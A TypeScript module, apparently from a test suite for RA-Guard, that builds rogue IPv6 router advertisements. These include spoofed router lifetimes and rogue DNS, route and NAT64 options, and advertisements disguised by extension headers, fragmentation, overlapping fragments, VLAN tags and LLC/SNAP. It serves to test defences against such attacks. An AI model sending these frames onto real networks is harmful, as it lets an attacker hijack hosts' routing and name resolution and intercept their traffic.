/** Router advertisements of an instance that is no router, plain and in disguise (RFC 7113). */

import { type Address, linkLocalAddress, type Mac, Prefix } from '../../../addressing/index.ts';
import {
  ALL_NODES,
  ETHER_TYPE,
  type ExtensionHeader,
  encodeIcmpv6,
  encodeIpv6Packet,
  type Frame,
  fragmentIpv6,
  frame,
  IP_PROTOCOL,
  type Ipv6Packet,
  icmpv6,
  ipv6,
  multicastMac,
  type NdOption,
  type RouterAdvertisement,
} from '../../../packets/index.ts';
import type { Attack, Attacks } from './attacks.ts';

/** What the rogue router wants to be used as prefix on the link. */
export const ROGUE_PREFIX = Prefix.parse('2001:db8:bad::/64');

const HOP_BY_HOP: ExtensionHeader = { kind: 'hop-by-hop', options: [] };
const DESTINATION_OPTIONS: ExtensionHeader = { kind: 'destination-options', options: [] };
/** 24 octets: the header does not end in a first fragment of 8. */
const longOptions: ExtensionHeader = {
  kind: 'destination-options',
  options: [{ type: 0x1e, data: new Uint8Array(18) }],
};
const routing: ExtensionHeader = {
  kind: 'routing',
  routingType: 0,
  segmentsLeft: 0,
  data: new Uint8Array(4),
};
const authentication: ExtensionHeader = {
  kind: 'authentication',
  securityParameters: 1,
  sequence: 1,
  integrity: new Uint8Array(4),
};
const IDENTIFICATION = 0x16;
/** Of a train whose second fragment is otherwise that of another. */
const ANOTHER = IDENTIFICATION + 1;

/** Seconds; PREF64 has them in eights. */
const LIFETIME_SECONDS = 1800;
const NAT64_PREFIX = Prefix.of(ROGUE_PREFIX.network, 96);

const ADVERTISEMENT: RouterAdvertisement = {
  kind: 'router-advertisement',
  hopLimit: 64,
  managed: false,
  otherConfig: false,
  preference: 'high',
  routerLifetime: 1800,
  reachableTime: 0,
  retransTimer: 0,
  options: [
    {
      kind: 'prefix-information',
      prefix: ROGUE_PREFIX,
      onLink: true,
      autonomous: true,
      prefersDelegation: false,
      validLifetime: 3600,
      preferredLifetime: 3600,
    },
  ],
};

/** From an address, or the sender's link-local one, to all nodes or one. */
const advertisement = (
  source: Address,
  extensions: readonly ExtensionHeader[] = [],
  message: RouterAdvertisement = ADVERTISEMENT,
  destination: Address = ALL_NODES,
): Ipv6Packet => ipv6(source, destination, icmpv6(message), { hopLimit: 255, extensions });

/** An advertisement of a prefix, plain, to all nodes. */
export const prefixAdvertisement = (mac: Mac, source: Address, prefix: Prefix): Frame => {
  const [information] = ADVERTISEMENT.options;
  const message = { ...ADVERTISEMENT, options: [{ ...information, prefix } as typeof information] };
  return frame(mac, multicastMac(ALL_NODES), advertisement(source, [], message as RouterAdvertisement));
};

/**
 * Advertisements by a station, by how they are disguised.
 * @param mac the sender's
 * @param to MAC address of an instance that is to believe them
 * @param router link-local address of the legitimate router
 */
export function rogueAdvertisements(mac: Mac, to: Mac, router: Address): Attacks {
  const own = linkLocalAddress(mac);
  const toAll = (packet: Ipv6Packet): Frame => frame(mac, multicastMac(ALL_NODES), packet);
  const toOne = (packet: Ipv6Packet): Frame => frame(mac, to, packet);
  const one = (what: string, ...frames: Frame[]): Attack => ({ what, frames });
  const behind = (what: string, ...extensions: ExtensionHeader[]): Attack =>
    one(what, toAll(advertisement(own, extensions)));
  const fragmented = (
    what: string,
    extensions: readonly ExtensionHeader[],
    cuts: readonly number[],
    unfragmentable = 0,
  ): Attack => {
    const fragments = fragmentIpv6(advertisement(own, extensions), cuts, {
      identification: IDENTIFICATION,
      unfragmentable,
    });
    return { what, frames: fragments.map(toAll) };
  };
  const cease = { ...ADVERTISEMENT, routerLifetime: 0, options: [] };
  const saying = (what: string, ...options: readonly NdOption[]): Attack =>
    one(what, toAll(advertisement(own, [], { ...cease, options })));
  return {
    'router advertisements': [
      one('to all nodes', toAll(advertisement(own))),
      one('to one node', toOne(advertisement(own, [], ADVERTISEMENT, linkLocalAddress(to)))),
      one("to all nodes, at one's MAC address", toOne(advertisement(own))),
      one("from the router's address", toAll(advertisement(router))),
      one("that end the router's lifetime", toAll(advertisement(router, [], cease))),
    ],
    'advertisements of who is no default router': [
      saying('a route', {
        kind: 'route-information',
        prefix: ROGUE_PREFIX,
        preference: 'high',
        lifetime: LIFETIME_SECONDS,
      }),
      saying('a DNS server', { kind: 'rdnss', lifetime: LIFETIME_SECONDS, servers: [ROGUE_PREFIX.at(53n)] }),
      saying('a search domain', { kind: 'dnssl', lifetime: LIFETIME_SECONDS, domains: ['bad.example'] }),
      saying('a NAT64 prefix', { kind: 'pref64', lifetime: LIFETIME_SECONDS, prefix: NAT64_PREFIX }),
      saying('an MTU', { kind: 'mtu', mtu: 1280 }),
    ],
    'router advertisements behind extension headers': [
      behind('hop-by-hop options', HOP_BY_HOP),
      behind('destination options', DESTINATION_OPTIONS),
      behind('a routing header', routing),
      behind('an authentication header', authentication),
      behind('destination options twice', DESTINATION_OPTIONS, DESTINATION_OPTIONS),
      behind('five headers', HOP_BY_HOP, DESTINATION_OPTIONS, routing, authentication, DESTINATION_OPTIONS),
    ],
    'router advertisements in fragments': [
      fragmented('an atomic fragment', [], []),
      fragmented('an atomic fragment behind hop-by-hop options', [HOP_BY_HOP], [], 1),
      fragmented('two fragments', [], [16]),
      fragmented('the ICMPv6 header in the second', [DESTINATION_OPTIONS], [8]),
      fragmented('options that go on in the second', [longOptions], [8]),
      fragmented('the ICMPv6 header in the third', [DESTINATION_OPTIONS, DESTINATION_OPTIONS], [8, 16]),
      { what: 'the second on top of the first', frames: overlapping(own).map(toAll) },
    ],
    'router advertisements in LLC/SNAP': [one('RFC 1042', snap(mac, advertisement(own)))],
    'router advertisements with VLAN tags': [
      one('a priority tag', tagged(toAll(advertisement(own)), [ETHER_TYPE.vlan, 0])),
      one('a tag', tagged(toAll(advertisement(own)), [ETHER_TYPE.vlan, 7])),
      one('two tags', tagged(toAll(advertisement(own)), [ETHER_TYPE.serviceVlan, 7], [ETHER_TYPE.vlan, 7])),
    ],
  };
}

/** An echo request in the first fragment, and an advertisement in the second that claims the same place (RFC 5722). */
function overlapping(source: Address): Ipv6Packet[] {
  const inoffensive = ipv6(
    source,
    ALL_NODES,
    icmpv6({ kind: 'echo-request', identifier: 1, sequence: 1, data: new Uint8Array(16) }),
    { hopLimit: 255, extensions: [DESTINATION_OPTIONS] },
  );
  const [first] = fragmentIpv6(inoffensive, [24], { identification: ANOTHER });
  const header: ExtensionHeader = { kind: 'fragment', offset: 8, more: false, identification: ANOTHER };
  const octets = encodeIcmpv6(ADVERTISEMENT, source, ALL_NODES);
  const upper = { kind: 'octets', protocol: IP_PROTOCOL.destinationOptions, octets } as const;
  return [first!, ipv6(source, ALL_NODES, upper, { hopLimit: 255, extensions: [header] })];
}

/** IPv6 in 802.3 with LLC and SNAP headers (RFC 1042). */
function snap(mac: Mac, packet: Ipv6Packet): Frame {
  const octets = Buffer.concat([Buffer.from('aaaa0300000086dd', 'hex'), encodeIpv6Packet(packet)]);
  return frame(mac, multicastMac(ALL_NODES), { kind: 'octets', etherType: octets.length, octets });
}

const tagged = (plain: Frame, ...tags: readonly (readonly [protocol: number, id: number])[]): Frame => ({
  ...plain,
  vlans: tags.map(([protocol, id]) => ({ protocol, priority: 0, dropEligible: false, id })),
});
